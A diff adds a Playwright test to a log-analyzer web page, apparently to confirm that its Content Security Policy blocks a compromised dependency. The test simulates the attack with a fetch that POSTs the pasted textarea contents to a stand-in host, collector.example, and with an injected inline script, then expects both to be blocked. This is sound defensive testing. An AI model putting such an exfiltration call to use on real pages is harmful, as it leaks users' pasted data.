@@ -147,3 +147,31 @@ test('each finding carries data-finding, data-platform and data-code; text from 
   await expect(page.getByRole('heading', { name: '0 findings' })).toBeVisible();
   await expect(page.locator('[data-finding]')).toHaveCount(0);
 });
+
+test('the page policy lets nothing pasted leave the browser or run as script', async ({ page, consoleErrors }) => {
+  await page.goto('/analyze');
+  await page.getByRole('textbox', { name: 'Log or error response' }).fill(IOS_7014);
+  await page.getByRole('button', { name: 'Analyze' }).click();
+  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
+  // What a compromised dependency would try: send the text away, or run a script it injected.
+  const outcome = await page.evaluate(async () => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+    let sent = 'sent';
+    try {
+      await fetch('https://collector.example/upload', { method: 'POST', body: document.querySelector('textarea')!.value });
+    } catch {
+      sent = 'blocked';
+    }
+    const script = document.createElement('script');
+    script.textContent = 'window.__injected = true';
+    document.body.append(script);
+    await new Promise((r) => setTimeout(r, 100));
+    return { sent, ran: (window as unknown as { __injected?: boolean }).__injected === true, violations: violations.sort() };
+  });
+  expect(outcome).toEqual({ sent: 'blocked', ran: false, violations: ['connect-src', 'script-src-elem'] });
+  // Chromium reports each refusal on the console too: those are this test's own.
+  const own = consoleErrors.filter((e) => /Content Security Policy/.test(e));
+  expect(own.length).toBeGreaterThan(0);
+  consoleErrors.splice(0, consoleErrors.length, ...consoleErrors.filter((e) => !own.includes(e)));
+});
